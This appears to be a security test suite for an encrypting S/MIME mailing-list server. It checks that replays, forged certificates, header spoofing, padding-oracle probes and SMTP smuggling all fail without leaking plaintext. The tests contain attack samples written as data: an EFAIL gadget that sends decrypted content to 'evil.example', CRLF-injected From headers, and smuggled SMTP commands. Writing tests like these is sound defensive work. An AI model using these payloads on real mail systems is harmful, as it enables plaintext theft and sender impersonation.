import { connect } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { filingsFor } from '../../src/flow/harvest/harvest.ts';
import { taggedSubject } from '../../src/mime/subject.ts';
import { parseCertificate } from '../../src/pki/certificate.ts';
import * as w from '../../src/pki/der.ts';
import { revocationOff } from '../../src/pki/revocation.ts';
import { attribute, contentTypeAttribute, digestAttribute, oid } from '../cms/forge.ts';
import { listWith } from '../flow/parts.ts';
import { cmsEncrypt, cmsSign } from '../kit/openssl.ts';
import { type Identity, makeCa, makeSelfSigned } from '../kit/pki.ts';
import { cmsEntity, cmsOf, mailOf, signedEntity, textEntity } from '../kit/smime-mime.ts';
import {
  clearPost,
  encrypted,
  encryptedOnly,
  openCopy,
  postHeaders,
  secretEntity,
  signed,
  signedAndEncrypted,
} from './posts.ts';
import { gcmAsCbc, otherHalf, pssSigner, signersOf, withSignature, withSigners } from './surgery.ts';
import { type List, makeWorld, secret, until, type World } from './world.ts';

// What somebody with a mail client and patience tries. Each test is named after the attack; most show that it fails.

let world: World;
let alice: Identity;
let mallory: Identity;
beforeAll(async () => {
  world = await makeWorld();
  alice = await world.person('alice');
  mallory = await world.person('mallory');
});
// Plaintext, in no file, row, log line or mail in clear, whatever was tried.
afterEach(() => {
  expect(world.leaks()).toEqual([]);
  for (const { bytes } of world.sink.messages) expect(bytes.toString('latin1')).not.toContain(secret);
});
afterAll(() => world?.stop());

/** The S/MIME entity of a message as somebody on the way can copy it. */
const captured = (post: Buffer): Buffer => post.subarray(post.indexOf('Content-Type:'));

const mail = (
  from: string,
  to: string,
  entity: Buffer,
  headers: readonly (readonly [string, string])[] = [],
): Buffer => mailOf(postHeaders(from, to, headers), entity);

/** Nobody gets what was in a message: no delivery, or only ones that carry it as it came. */
async function opensForNobody(id: string): Promise<void> {
  const rows = await world.deliveries(id);
  expect(rows.filter((row) => row.cipher !== null)).toEqual([]);
  const postings = await world.onDatabase((q) =>
    q
      .selectFrom('postings')
      .select(['state', 'kind'])
      .where('messageId', '=', id)
      .where('kind', '=', 'post')
      .execute(),
  );
  for (const { state } of postings) expect(['new', 'held', 'refused', 'dropped']).toContain(state);
}

describe('mail to a further address, captured and posted to the list', () => {
  let list: List;
  let owner: Identity;
  beforeAll(async () => {
    list = await world.list({ name: 'board', members: [alice, mallory] });
    owner = await world.ca.issue({ name: 'Owner', address: list.owner, key: 'p256' });
    await world.join(await world.list({ name: 'card-of-owner', key: 'p256' }), owner);
  });

  it.each(['owner', 'editor', 'request', 'sendcert'])(
    'a private mail to -%s does not reach the members',
    async (ending) => {
      const private_ = await signedAndEncrypted(alice, { ...list, address: list.at(ending) });
      await world.post(private_, list.at(ending));
      const again = await world.post(mail(alice.address, list.address, captured(private_)), list.address);
      expect(again).toMatchObject({ event: 'held', reason: 'replay-elsewhere' });
      await opensForNobody(again.id);
    },
  );

  it('a post that was distributed is not opened for the owners', async () => {
    const post = await signedAndEncrypted(alice, list);
    await world.post(post, list.address);
    const again = await world.post(mail(alice.address, list.at('owner'), captured(post)), list.at('owner'));
    expect(again).toMatchObject({ event: 'forwarded', mode: 'intact' });
    await opensForNobody(again.id);
  });

  it('a captured post sent to the owners first is not lost: a moderator sees the genuine one', async () => {
    const post = await signedAndEncrypted(alice, list);
    await world.post(
      mail(alice.address, list.at('owner'), captured(post)),
      list.at('owner'),
      'mallory@example.org',
    );
    const genuine = await world.post(post, list.address);
    expect(genuine.event).not.toBe('dropped');
  });
});

describe('a replay under another name', () => {
  let list: List;
  let rsa: Identity;
  beforeAll(async () => {
    rsa = await world.person('rsa-writer', { key: 'rsa' });
    list = await world.list({ members: [alice, mallory, rsa] });
  });
  /** What a member makes of a copy that he has opened: encrypted to the list again, with another SignedData. */
  const again = async (from: Identity, entity: Buffer, der: Buffer): Promise<Buffer> =>
    mail(from.address, list.address, await encrypted(list.identity, signedEntity(entity, der)));

  it.each([
    ['the other half of an ECDSA signature', (one: Buffer) => withSignature(one, otherHalf)],
    [
      'an unsigned attribute',
      (one: Buffer) => withSignature(one, (value) => value, w.derContext(1, attribute('1.2.3', w.derNull()))),
    ],
  ])('%s', async (_, change) => {
    const entity = secretEntity();
    const der = await cmsSign(alice, entity);
    expect(await world.post(await again(alice, entity, der), list.address)).toMatchObject({
      event: 'authorized',
    });
    const changed = withSigners(der, (signers) => signers.map(change));
    expect(await world.post(await again(alice, entity, changed), list.address)).toMatchObject({
      reason: 'replay',
    });
  });

  it('one of two signatures of the author', async () => {
    const entity = secretEntity();
    const second = await world.ca.issue({ name: 'Alice 2', address: alice.address, key: 'p256' });
    const both = await cmsSign(alice, entity, { also: [second] });
    expect(await world.post(await again(alice, entity, both), list.address)).toMatchObject({
      event: 'authorized',
    });
    for (const keep of [0, 1]) {
      const fewer = withSigners(both, (signers) => signers.slice(keep, keep + 1));
      expect(await world.post(await again(alice, entity, fewer), list.address)).toMatchObject({
        reason: 'replay',
      });
    }
  });

  it('a PSS signature without its leading zero octet', async () => {
    const entity = secretEntity();
    const signer = pssSigner(rsa, (n) => [
      contentTypeAttribute(),
      digestAttribute(entity),
      attribute(oid.signingTime, w.derTime(Date.now() - 1000 * n)),
    ]);
    const der = withSigners(await cmsSign(rsa, entity), () => [signer]);
    const shorter = withSigners(der, () => [withSignature(signer, (value) => value.subarray(1))]);
    expect(await world.post(await again(rsa, entity, der), list.address)).toMatchObject({
      event: 'authorized',
    });
    expect(await world.post(await again(rsa, entity, shorter), list.address)).not.toMatchObject({
      event: 'authorized',
    });
  });

  it('ten at the same moment: one is distributed', async () => {
    const entity = captured(await signedAndEncrypted(alice, list));
    const sent = await Promise.all(
      Array.from({ length: 10 }, () => world.send(mail(alice.address, list.address, entity), list.address)),
    );
    const fates = await Promise.all(sent.map((one) => world.fate(one)));
    expect(fates.filter(({ event }) => event === 'authorized')).toHaveLength(1);
    expect(fates.filter(({ reason }) => reason === 'replay')).toHaveLength(9);
  });
});

describe('a captured ciphertext in other clothes', () => {
  let list: List;
  let other: List;
  let inside: Buffer;
  beforeAll(async () => {
    list = await world.list({ name: 'captured', members: [alice, mallory] });
    other = await world.list({ name: 'elsewhere', members: [alice, mallory] });
    // What Alice wrote to somebody who has the same key, or what the list never got to see.
    inside = captured(await encryptedOnly(alice.address, list));
  });

  const gadget = (): Buffer =>
    Buffer.concat([
      Buffer.from(
        'Content-Type: multipart/mixed; boundary=g\r\n\r\n--g\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/',
      ),
      Buffer.from('\r\n--g\r\n'),
      inside,
      Buffer.from('\r\n--g\r\nContent-Type: text/html\r\n\r\n">\r\n--g--\r\n'),
    ]);
  const attached = (): Buffer =>
    Buffer.concat([
      Buffer.from('Content-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\nMIME-Version: 1.0\r\n'),
      inside,
    ]);

  it.each([
    ['bare', () => inside],
    [
      'as octet-stream with another smime-type',
      () => renamed(inside, 'application/octet-stream; name=x.P7M'),
    ],
    ['as signed-data by its name', () => renamed(inside, 'application/x-pkcs7-mime; smime-type=signed-data')],
    ['an EFAIL gadget around it', gadget],
    ['in a message/rfc822', attached],
    [
      'behind a second Content-Type',
      () => Buffer.concat([Buffer.from('Content-Type: text/plain\r\n'), inside]),
    ],
  ])('%s', async (_, entity) => {
    const fates = [
      await world.post(mail(mallory.address, list.address, entity()), list.address),
      await world.post(mail(mallory.address, list.address, await signed(mallory, entity())), list.address),
      await world.post(
        mail(mallory.address, list.address, await encrypted(list.identity, await signed(mallory, entity()))),
        list.address,
      ),
    ];
    for (const fate of fates) {
      if (fate.event !== 'authorized') {
        await opensForNobody(fate.id);
        continue;
      }
      for (const row of await world.untilDeliveries(fate.id, (rows) =>
        rows.every((one) => one.finishedAt !== null),
      )) {
        const copies = world.sink.messages.filter(({ to }) => to.includes(row.member));
        const last = copies.at(-1)?.bytes ?? Buffer.alloc(0);
        const shown =
          row.cipher === null ? last : await openCopy(row.member === alice.address ? alice : mallory, last);
        expect(shown.toString('latin1')).not.toContain(secret);
      }
    }
  });

  it.each(['owner', 'editor', 'request', 'sendcert'])('to -%s', async (ending) => {
    const fate = await world.post(mail(mallory.address, list.at(ending), inside), list.at(ending));
    expect(fate.mode ?? 'intact').toBe('intact');
    await opensForNobody(fate.id);
  });

  it('to a list that has another key', async () => {
    const fate = await world.post(
      mail(alice.address, other.address, captured(await signedAndEncrypted(alice, list))),
      other.address,
    );
    expect(fate).toMatchObject({ event: 'unopened', reason: 'no-recipient' });
    await opensForNobody(fate.id);
  });

  it('changed: each block flipped, cut, doubled; GCM taken for CBC', async () => {
    const der = cmsOf(captured(await signedAndEncrypted(alice, list)));
    const flipped = (at: number) => {
      const copy = Buffer.from(der);
      copy[at] = (copy[at] as number) ^ 1;
      return copy;
    };
    const gcm = await cmsEncrypt([list.identity], await signed(alice, secretEntity()), {
      cipher: 'aes-256-gcm',
    });
    const tries = [
      flipped(der.length - 1),
      flipped(der.length - 40),
      flipped(der.length - 300),
      gcmAsCbc(gcm),
    ];
    for (const one of tries) {
      const fate = await world.post(
        mail(alice.address, list.address, cmsEntity(one, 'enveloped-data')),
        list.address,
      );
      expect(fate.event).not.toBe('authorized');
      await opensForNobody(fate.id);
    }
  });
});

describe('unopened.action: members', () => {
  let list: List;
  let stranger: Identity;
  const settings = { 'unopened.action': 'members' };
  beforeAll(async () => {
    stranger = await world.person('stranger');
    list = await world.list({ key: 'p256', members: [alice, mallory], settings });
  });
  /** What nobody here can open. */
  const blob = async () => encrypted(stranger, secretEntity());

  it('lets no stranger write to the members, also not by a second recipient', async () => {
    const data = mail(stranger.address, list.address, await blob());
    expect(await world.send(data, list.address)).toMatchObject({ code: 550 });
    const fate = await world.post(data, [list.address, list.at('bounces')]);
    expect(fate).toMatchObject({ event: 'unopened' });
    expect(await world.deliveries(fate.id)).toEqual([]);
  });

  it('nor anybody where a signature is required, or only moderators post', async () => {
    for (const [name, value] of [
      ['accept.signature', 'required'],
      ['accept.from', 'moderators'],
    ] as const) {
      const strict = await world.list({
        key: 'p256',
        members: [alice],
        settings: { ...settings, [name]: value },
      });
      for (const from of [alice.address, strict.owner]) {
        const sent = await world.send(mail(from, strict.address, await blob()), [
          strict.address,
          strict.at('bounces'),
        ]);
        await world.fate(sent);
        expect(await world.deliveries(sent.id)).toEqual([]);
      }
    }
  });

  it('tells no member whether changed ciphertext has good padding', async () => {
    const der = cmsOf(await encrypted(list.identity, await signed(alice, secretEntity())));
    for (let n = 0; n < 4; n++) {
      const changed = Buffer.from(der);
      // The last octet of the block before the last.
      changed[der.length - 17] = (changed[der.length - 17] as number) ^ (n + 1);
      const fate = await world.post(
        mail(mallory.address, list.address, cmsEntity(changed, 'enveloped-data')),
        list.address,
      );
      expect(await world.deliveries(fate.id)).toEqual([]);
    }
  });
});

const renamed = (entity: Buffer, type: string): Buffer =>
  Buffer.from(entity.toString('latin1').replace(/^Content-Type: [^\r]*/, `Content-Type: ${type}`), 'latin1');

describe('speaking as Alice', () => {
  let list: List;
  beforeAll(async () => {
    list = await world.list({
      key: 'p256',
      members: [alice, mallory],
      settings: { 'accept.signature': 'required' },
    });
  });

  it.each([
    ['alice@example.org <mallory@example.org>'],
    ['"alice@example.org" <mallory@example.org>'],
    ['=?utf-8?q?alice=40example=2Eorg?= <mallory@example.org>'],
    ['=?utf-8?q?alice=40example=2Eorg=00?= <mallory@example.org>'],
    ['mallory@example.org (alice@example.org)'],
    ['(mallory@example.org) alice@example.org'],
    ['alice@example.org, mallory@example.org'],
    ['Friends: alice@example.org;'],
    ['<alice@example.org> <mallory@example.org>'],
    ['alice@example.org\0 <mallory@example.org>'],
    ['<@mallory@example.org:alice@example.org>'],
    ['<alice@example.org\r\n mallory@example.org>'],
    ['"alice"@example.org'],
    ['"Alice\\"@example.org'],
    ['ALICE@Example.ORG'],
    ['alice@example.org.'],
    ['alice @ example.org'],
    ['al\u0131ce@example.org'],
    ['\u0430lice@example.org'],
    ['alice@example.org\r\nFrom: mallory@example.org'],
    ['alice@example.org\r\nFrom : mallory@example.org'],
    ['mallory@example.org\r\nfrom:\talice@example.org'],
    ['mallory@example.org\r\nSender: alice@example.org'],
    ['alice@example.org\r\nSender: mallory@example.org'],
    ['alice@example.org\r\nResent-From: mallory@example.org'],
  ])('Mallory signs with From: %j', async (from) => {
    const entity = await signed(mallory, textEntity(`as ${from}\n`));
    const data = mailOf([['From', from], ...postHeaders('', list.address).slice(1)], entity);
    const sent = await world.send(Buffer.from(data.toString('utf8'), 'utf8'), list.address, mallory.address);
    if (sent.code !== 250) return;
    const fate = await world.fate(sent);
    expect(fate.author ?? mallory.address).toBe(mallory.address);
    if (fate.event === 'authorized') expect(fate.author).toBe(mallory.address);
  });

  const certificates: [
    name: string,
    make: () => Promise<{ signer: Identity; bag?: Identity[]; keyId?: boolean }>,
  ][] = [
    [
      'the same issuer and serial number, the genuine one beside it',
      async () => {
        const fake = await makeCa('Test Root');
        return {
          signer: await fake.issue({
            name: 'alice',
            address: alice.address,
            key: 'p256',
            serial: alice.serial,
          }),
          bag: [alice],
        };
      },
    ],
    [
      'another key of the same name, by key identifier',
      async () => ({ signer: await sameKeyId(alice), bag: [alice], keyId: true }),
    ],
    ['issued by a member', async () => ({ signer: await issuedBy(mallory), bag: [mallory] })],
    ['self-signed in the bag as authority', async () => rogueChain()],
    ['an address with a NUL', async () => ({ signer: await issued('alice@example.org\0.evil.example') })],
    ['two addresses in one', async () => ({ signer: await issued('mallory@example.org,alice@example.org') })],
    [
      'an address in the common name',
      async () => ({ signer: await world.ca.issue({ name: 'alice@example.org', key: 'p256' }) }),
    ],
    [
      'for a web server',
      async () => ({
        signer: await world.ca.issue({ name: 'w', address: alice.address, key: 'p256', eku: 'serverAuth' }),
      }),
    ],
    [
      'for encryption only',
      async () => ({
        signer: await world.ca.issue({
          name: 'e',
          address: alice.address,
          key: 'p256',
          usage: 'keyAgreement',
        }),
      }),
    ],
    [
      'not yet valid',
      async () => ({
        signer: await world.ca.issue({
          name: 'n',
          address: alice.address,
          key: 'p256',
          notBefore: new Date(Date.now() + 7_200_000),
        }),
      }),
    ],
    [
      'with RSA 1024',
      async () => ({ signer: await world.ca.issue({ name: 'r', address: alice.address, key: 'rsa1024' }) }),
    ],
  ];
  it.each(certificates)('with a certificate: %s', async (_, make) => {
    const { signer, bag = [], keyId = false } = await make();
    const entity = textEntity('as Alice\n');
    const der = await cmsSign(signer, entity, { chain: bag, keyId });
    const fate = await world.post(mail(alice.address, list.address, signedEntity(entity, der)), list.address);
    expect(fate.event).toBe('refused');
    expect(fate.author ?? null).toBe(null);
  });

  it.each([
    [
      'another text in an eContent',
      async () =>
        signedEntity(textEntity('evil\n'), await cmsSign(alice, textEntity('good\n'), { opaque: true })),
    ],
    [
      'a second boundary',
      async () => replaced(await signed(alice, textEntity('good\n')), 'boundary=', 'boundary="x"; boundary='),
    ],
    [
      'a second boundary by RFC 2231',
      async () =>
        replaced(await signed(alice, textEntity('good\n')), 'boundary=', "boundary*=utf-8''x; boundary="),
    ],
    [
      'two Content-Type fields',
      async () =>
        Buffer.concat([
          Buffer.from('Content-Type: multipart/mixed; boundary="=_kit_signed"\r\n'),
          await signed(alice, textEntity('good\n')),
        ]),
    ],
    [
      'a third part',
      async () =>
        replaced(
          await signed(alice, textEntity('good\n')),
          '\r\n--=_kit_signed--',
          '\r\n--=_kit_signed\r\n\r\nevil\r\n--=_kit_signed--',
        ),
    ],
    [
      'a part before',
      async () =>
        replaced(
          await signed(alice, textEntity('good\n')),
          '\r\n\r\n--=_kit_signed',
          '\r\n\r\n--=_kit_signed\r\n\r\nevil\r\n--=_kit_signed',
        ),
    ],
    [
      'a transfer encoding over the parts',
      async () =>
        Buffer.concat([
          Buffer.from('Content-Transfer-Encoding: base64\r\n'),
          await signed(alice, textEntity('good\n')),
        ]),
    ],
    [
      'inside a multipart/mixed',
      async () =>
        Buffer.concat([
          Buffer.from('Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nevil\r\n--m\r\n'),
          await signed(alice, textEntity('good\n')),
          Buffer.from('\r\n--m--\r\n'),
        ]),
    ],
    [
      'without a signer',
      async () =>
        cmsEntity(
          withSigners(await cmsSign(alice, textEntity('good\n'), { opaque: true }), () => []),
          'signed-data',
        ),
    ],
    ['with Mallory\u2019s broken one beside it', async () => beside()],
  ])('with a signature of hers and %s', async (_, make) => {
    const sent = await world.send(mail(alice.address, list.address, await make()), list.address);
    if (sent.code !== 250) return;
    const fate = await world.fate(sent);
    expect(['refused', 'malformed']).toContain(fate.event);
    expect(fate.author ?? null).toBe(null);
  });

  const beside = async (): Promise<Buffer> => {
    const entity = textEntity('good\n');
    const [evil = Buffer.alloc(0)] = signersOf(await cmsSign(mallory, textEntity('evil\n')));
    return signedEntity(
      entity,
      withSigners(await cmsSign(alice, entity), (signers) => [...signers, evil]),
    );
  };
  const issued = (address: string) => world.ca.issue({ name: 'odd', address, key: 'p256' });
  const issuedBy = async (who: Identity): Promise<Identity> => {
    const fake = await makeCa('x', { key: 'p256', keyFrom: who, subjectDer: who.subjectDer });
    return fake.issue({ name: 'alice', address: alice.address, key: 'p256' });
  };
  const sameKeyId = async (victim: Identity): Promise<Identity> => {
    const id = parseCertificate(victim.certDer).subjectKeyId ?? Buffer.alloc(0);
    const extensions = [{ oid: '2.5.29.14', valueDer: w.derOctets(id) }];
    return makeSelfSigned({ name: 'alice', address: victim.address, key: 'p256', extensions });
  };
  const rogueChain = async () => {
    const root = await makeCa('Test Root');
    const intermediate = await root.intermediate({ name: 'Rogue' });
    return {
      signer: await intermediate.issue({ name: 'a', address: alice.address, key: 'p256' as const }),
      bag: [intermediate, root],
    };
  };
});

const replaced = (entity: Buffer, from: string, to: string): Buffer =>
  Buffer.from(
    entity.toString('latin1').replace(from, () => to),
    'latin1',
  );

describe('the certificate store', () => {
  const bindings = (address: string) =>
    world.onDatabase((q) =>
      q.selectFrom('bindings').selectAll().where('address', '=', address).orderBy('purpose').execute(),
    );

  it('who is known by a signing key only gets no encryption key from another', async () => {
    const list = await world.list({ key: 'p256' });
    const victim = await world.person('signs-only', { usage: 'digitalSignature' });
    await world.join(list, victim.address);
    await world.post(
      mail(victim.address, list.address, await signed(victim, textEntity('hello\n'))),
      list.address,
    );
    expect((await bindings(victim.address)).map(({ purpose, state }) => `${purpose} ${state}`)).toEqual([
      'sign in-use',
    ]);
    // Whoever can once read a mailbox can get a certificate for it.
    const intruder = await world.person('signs-only');
    await world.post(
      mail(victim.address, list.at('sendcert'), await signed(intruder, textEntity('mine\n'))),
      list.at('sendcert'),
    );
    expect((await bindings(victim.address)).filter(({ state }) => state === 'in-use')).toHaveLength(1);
    expect(
      (await bindings(victim.address)).filter(
        ({ state, purpose }) => state === 'pending' && purpose === 'enc',
      ),
    ).toHaveLength(1);
  });

  it('takes nobody else\u2019s certificate out of the bag, and no more than it asked for', async () => {
    const list = await world.list({ key: 'p256', members: [] });
    const sender = await world.person('flooder');
    const bag = await Promise.all(Array.from({ length: 15 }, (_, n) => world.person(`victim-${n}`)));
    const data = mail(
      sender.address,
      list.at('sendcert'),
      await signed(sender, textEntity('x\n'), { chain: [...bag, alice] }),
    );
    expect(await world.post(data, list.at('sendcert'))).toMatchObject({ event: 'certificate-received' });
    for (const one of bag) expect(await bindings(one.address)).toEqual([]);
    expect(await bindings(sender.address)).toHaveLength(2);
  });

  it('of two first certificates that come at once, one has to be confirmed', async () => {
    const list = await world.list({ key: 'p256' });
    const both = [await world.person('twin'), await world.person('twin')];
    const mails = await Promise.all(
      both.map(async (one) =>
        mail(one.address, list.at('sendcert'), await signed(one, textEntity('mine\n'))),
      ),
    );
    await Promise.all(mails.map((data) => world.post(data, list.at('sendcert'))));
    const states = (await bindings('twin@example.org'))
      .map(({ purpose, state }) => `${purpose} ${state}`)
      .sort();
    expect(states).toEqual(['enc in-use', 'enc pending', 'sign in-use', 'sign pending']);
  });

  it('a forged certificate of the same name in front of the preferred one does not displace it', async () => {
    const signer = parseCertificate(
      (await world.person('prefers', { usage: 'digitalSignature,keyAgreement' })).certDer,
    );
    const wanted = await world.person('prefers', { usage: 'keyAgreement' });
    const { address, serial } = wanted;
    const forged = await (await makeCa('Forger')).issue({
      name: 'f',
      address,
      key: 'p256',
      serial,
      issuerDer: world.ca.subjectDer,
    });
    const { issuerDer, serialDer, sha256 } = parseCertificate(wanted.certDer);
    const filings = filingsFor(listWith({}), {
      address,
      signature: {
        certificate: signer.der,
        bag: [forged.certDer, wanted.certDer],
        signatureSha256: '',
        allSha256: [],
        others: [],
        signingTime: Date.now(),
        capabilities: null,
        preference: { kind: 'issuer-serial', issuerDer, serialDer },
      },
      inUse: { sign: null, enc: null },
      refused: { sign: [], enc: [] },
      replaced: { sign: new Map(), enc: new Map() },
      waiting: { sign: [], enc: [] },
      known: { sign: false, enc: false },
      anchors: { certificates: [parseCertificate(world.ca.certDer)] },
      intermediates: [],
      revocation: revocationOff,
      revokedKeys: new Set(),
      receivedAt: Date.now(),
    });
    expect(filings.find(({ purpose }) => purpose === 'enc')?.certificate.sha256).toBe(sha256);
  });

  it('nothing is taken from a signature under another\u2019s From, or from outside an encryption', async () => {
    const list = await world.list({ members: [] });
    const thief = await world.person('thief');
    const forged = mail('unknown@example.org', list.at('sendcert'), await signed(thief, textEntity('x\n')));
    const outer = mail(
      thief.address,
      list.at('sendcert'),
      await signed(thief, captured(await encryptedOnly(thief.address, list))),
    );
    for (const data of [forged, outer])
      expect(await world.post(data, list.at('sendcert'))).toMatchObject({ event: 'certificate-not-taken' });
    expect(await bindings('unknown@example.org')).toEqual([]);
    expect(await bindings(thief.address)).toEqual([]);
  });
});

describe('too much of everything', () => {
  let list: List;
  beforeAll(async () => {
    list = await world.list({ members: [alice], settings: { 'send.subject-tag': '[team]' } });
  });

  it('private-key operations are counted over all layers (RULES 7)', async () => {
    let entity = await signed(alice, secretEntity());
    for (let n = 0; n < 5; n++) entity = await encrypted(list.identity, entity);
    expect(await world.post(mail(alice.address, list.address, entity), list.address)).toMatchObject({
      event: 'malformed',
      reason: 'budget',
    });
  });

  it('signatures are counted over all layers', async () => {
    let entity = secretEntity();
    for (let n = 0; n < 5; n++) entity = await signed(alice, entity, { opaque: true });
    const data = mail(alice.address, list.address, await encrypted(list.identity, entity));
    expect(await world.post(data, list.address)).toMatchObject({ event: 'malformed', reason: 'budget' });
  });

  it('the largest size of a list holds for a message to several addresses too', async () => {
    const small = await world.list({ key: 'p256', members: [alice], settings: { 'accept.max-size': '2kB' } });
    const data = clearPost(alice.address, small.address, [], 'x'.repeat(60).concat('\n').repeat(100));
    expect(await world.send(data, small.address)).toMatchObject({ code: 552 });
    const fate = await world.post(data, [small.address, small.at('bounces')]);
    expect(fate).toMatchObject({ event: 'refused', reason: 'too-big' });
  });

  it('a message with too many hops too', async () => {
    const headers = Array.from(
      { length: 101 },
      () => ['Received', 'from a by b; Tue, 1 Sep 2026 10:00:00 +0000'] as const,
    );
    const data = clearPost(alice.address, list.address, headers);
    expect(await world.post(data, [list.address, list.at('bounces')])).toMatchObject({
      event: 'dropped',
      reason: 'loop',
    });
  });

  it('a Subject of a quarter of a megabyte of prefixes', () => {
    const began = performance.now();
    expect(taggedSubject('Re: Fwd: '.repeat(28_000), 'team')).toContain('[team]');
    expect(performance.now() - began).toBeLessThan(1000);
  });
});

describe('what notices repeat', () => {
  it('of a Subject of 200 kB is a line', async () => {
    const list = await world.list({ members: [alice] });
    const data = await encryptedOnly(alice.address, list, { headers: [['Subject', 'x '.repeat(100_000)]] });
    expect(await world.post(data, list.address)).toMatchObject({ event: 'held' });
    const [notice] = await world.mailTo(list.owner);
    expect(notice?.bytes.length).toBeLessThan(20_000);
  });

  it('of a Message-ID that is none is nothing, and the post is refused, not broken', async () => {
    const list = await world.list({ key: 'p256', settings: { 'accept.encryption': 'required' } });
    const writer = await world.person('odd-id');
    await world.join(list, writer);
    const hidden = await signed(writer, await signed(writer, textEntity('x\n'), { opaque: true }));
    const headers = [['Message-ID', '<a\0b\x1b[2J@client.example>']] as const;
    const fate = await world.post(mail(writer.address, list.address, hidden, headers), list.address);
    expect(fate).toMatchObject({ event: 'refused', reason: 'not-encrypted' });
    const [answer] = await world.mailTo(writer.address);
    expect(answer?.bytes.toString()).not.toContain('In-Reply-To');
  });
});

describe('two lists that are members of each other', () => {
  it('send a post round once, not for ever', async () => {
    const one = await world.list({ key: 'p256', members: [alice], settings: { 'send.received': 'drop' } });
    const two = await world.list({
      key: 'p256',
      members: [alice],
      bare: [one.address],
      settings: { 'send.received': 'drop' },
    });
    await world.join(one, two.address);
    const data = clearPost(alice.address, one.address);
    await world.post(data, one.address);
    const there = await world.copyFor(two, data);
    await world.post(there.bytes, two.address, there.from);
    const back = await world.copyFor(one, data);
    const sent = await world.send(back.bytes, one.address, back.from);
    expect(sent.code === 250 ? (await world.fate(sent)).reason : 'loop').toBe('loop');
  });
});

describe('SMTP smuggling', () => {
  it.each(['\n.\n', '\n.\r\n', '\r.\r', '\r\n.\n', '\r\n.\r', '\r.\r\n', '\r\n\0.\r\n'])(
    '%j ends no message',
    async (end) => {
      const list = await world.list({ key: 'p256', members: [alice] });
      const evil = `From: alice@example.org\r\nTo: ${list.address}\r\nSubject: smuggled\r\n\r\nevil\r\n`;
      const wire = `${clearPost(alice.address, list.address)}${end}MAIL FROM:<alice@example.org>\r\nRCPT TO:<${list.address}>\r\nDATA\r\n${evil}`;
      const replies = await dialogue(
        world.daemon.port(),
        ['EHLO x', 'MAIL FROM:<alice@example.org>', `RCPT TO:<${list.address}>`, 'DATA'],
        wire,
      );
      expect(replies).toBe(1);
    },
  );
});

/** Says the commands, then the data and the final dot; gives the number of replies that came after the 354. */
async function dialogue(port: number, commands: readonly string[], data: string): Promise<number> {
  const socket = connect(port, '127.0.0.1');
  let said = '';
  socket.on('data', (bytes) => {
    said += bytes.toString('latin1');
  });
  const lines = () => said.split('\r\n').filter((line) => /^\d{3} /.test(line)).length;
  await until(() => lines() >= 1);
  for (const [n, command] of commands.entries()) {
    socket.write(`${command}\r\n`);
    await until(() => lines() >= n + 2);
  }
  const before = lines();
  socket.write(`${data}\r\n.\r\nNOOP\r\n`);
  await until(() => /^250 .*\r\n$|^250 2\.0\.0 OK\r\n/im.test(said.slice(-200)) && lines() >= before + 2);
  socket.destroy();
  return lines() - before - 1;
}
